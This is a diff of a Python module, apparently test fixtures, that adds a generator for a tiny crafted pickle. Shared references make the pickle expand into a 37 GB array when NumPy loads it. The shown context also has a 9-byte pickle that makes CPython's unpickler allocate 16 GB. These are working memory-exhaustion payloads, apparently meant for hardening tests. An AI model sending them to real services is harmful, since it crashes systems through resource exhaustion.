@@ -19,6 +19,15 @@ def shared_tuple_bomb(levels: int = 64) -> bytes:
     return out + b"h" + bytes([levels]) + b"K\x01s."  # {T(levels): 1}
 
 
+def shared_box(levels: int = 19) -> bytes:
+    """{1: [T(levels)]}, T(0) a box (0, 0, 0, 0) and T(i+1) = (T(i), T(i), T(i)): 1.4 KB that np.asarray
+    turns into 3^19 x 4 floats (37 GB)."""
+    out = b"\x80\x02}" + b"(K\x00K\x00K\x00K\x00t\x940"
+    for i in range(levels):
+        out += (b"h" + bytes([i])) * 3 + b"\x87\x940"
+    return out + b"K\x01]h" + bytes([levels]) + b"as."
+
+
 def memo_jump() -> bytes:
     """9 bytes: LONG_BINPUT 2^30 makes CPython's C unpickler size its memo table to 2^31 pointers (16 GB)."""
     return b"\x80\x02N" + b"r" + struct.pack("<I", 1 << 30) + b"."
